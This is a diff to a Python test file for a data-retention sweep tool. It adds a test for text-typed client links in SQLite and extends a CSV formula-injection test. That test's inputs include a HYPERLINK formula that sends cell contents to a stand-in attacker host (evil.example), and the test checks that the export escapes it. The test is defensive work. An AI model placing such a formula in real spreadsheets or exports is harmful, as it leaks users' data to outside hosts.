@@ -173,6 +173,40 @@ def test_the_client_relationship_ends_with_the_last_activity(demo_path: Path) ->
     assert [(s.key, s.rows) for s in after["other"].due] == [(13, 1)]
 
 
+def test_a_link_stored_as_text_still_keeps_the_person(demo_path: Path) -> None:
+    # Client 13's latest activity is an invoice (2023-12-29). A booking system that keeps the
+    # invoice's client as text ('13') must not make the sweep miss it and call them expired.
+    connection = sqlite3.connect(demo_path.parent / "asiakkaat.sqlite")
+    connection.executescript(
+        """
+        ALTER TABLE invoices RENAME TO invoices_typed;
+        CREATE TABLE invoices (
+            id INTEGER PRIMARY KEY, client_id TEXT NOT NULL, number TEXT NOT NULL,
+            invoice_date DATE NOT NULL, due_date DATE NOT NULL, amount NUMERIC(10, 2) NOT NULL,
+            paid_at DATE
+        );
+        INSERT INTO invoices SELECT id, CAST(client_id AS TEXT) || '', number, invoice_date,
+            due_date, amount, paid_at FROM invoices_typed;
+        DROP TABLE invoices_typed;
+        CREATE INDEX invoices_client ON invoices (client_id);
+        """
+    )
+    connection.commit()
+    assert connection.execute("SELECT typeof(client_id) FROM invoices").fetchone() == ("text",)
+    connection.close()
+    register = load_register(demo_path)
+    before = by_category(sweep(register, as_of=D("2025-12-29")))
+    assert [s.key for s in before["contact-details"].due] == []
+    after = by_category(sweep(register, as_of=D("2025-12-30")))
+    assert [(s.key, s.counted_from) for s in after["contact-details"].due] == [
+        (13, D("2023-12-29"))
+    ]
+    # Row by row, through the text link and through collection_cases' join to it.
+    billing = by_category(sweep(register, as_of=D("2030-01-01")))["billing"]
+    assert {c.source: c.rows for c in billing.sources} == {"invoices": 24, "collection_cases": 1}
+    assert billing.due and all(isinstance(s.key, int) for s in billing.due)
+
+
 def test_everyone_passes_eventually_and_patient_records_do_not(demo_path: Path) -> None:
     report = by_category(sweep(load_register(demo_path), as_of=D("2026-11-28")))
     assert len(report["contact-details"].due) == 20
@@ -424,13 +458,23 @@ def test_csv_keys_are_text_in_a_spreadsheet() -> None:
     report = retention_sweep.RetentionReport(as_of=D("2025-06-01"), store="x")
     category = retention_sweep.CategorySweep("feedback", "feedback", "P2Y", "row", False)
     day = D("2023-04-06")
-    keys = ['=HYPERLINK("http://evil.example/?"&A1)', "+1", "@SUM(A1)", "\tx", "\rx", -5, "a-1"]
+    keys = [
+        '=HYPERLINK("http://evil.example/?"&A1)',
+        "+A1",
+        "+1",
+        "@SUM(A1)",
+        "\tx",
+        "\rx",
+        -5,
+        "a-1",
+    ]
     category.due = [retention_sweep.SubjectDue(key, 1, day, day) for key in keys]
     report.categories.append(category)
     rows = list(csv.DictReader(io.StringIO(report.to_csv(), newline="")))
     assert [row["subject"] for row in rows] == [
         '\'=HYPERLINK("http://evil.example/?"&A1)',
-        "'+1",
+        "'+A1",
+        "+1",
         "'@SUM(A1)",
         "'\tx",
         "'\rx",
